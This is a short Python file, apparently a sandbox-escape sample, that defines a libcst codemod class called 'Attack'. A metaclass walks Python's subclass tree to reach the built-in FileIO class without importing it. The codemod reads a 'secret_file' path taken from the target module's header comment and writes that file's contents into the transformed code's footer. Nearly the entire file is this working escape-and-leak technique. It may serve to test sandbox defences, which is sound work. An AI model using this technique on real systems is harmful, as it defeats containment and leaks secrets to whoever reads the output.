"""Reach through a metaclass, whose instances are classes, for all the classes there are, and take ``FileIO``."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Meta(type):
    def __getitem__(cls, name):
        waiting = [*super().__base__.__subclasses__()]
        for each in waiting:
            if each.__name__ == name:
                return each
            waiting += type.__subclasses__(each)
        raise KeyError(name)


class Classes(metaclass=Meta):
    pass


def read(path):
    return Classes["FileIO"](path).read().decode().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a metaclass."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
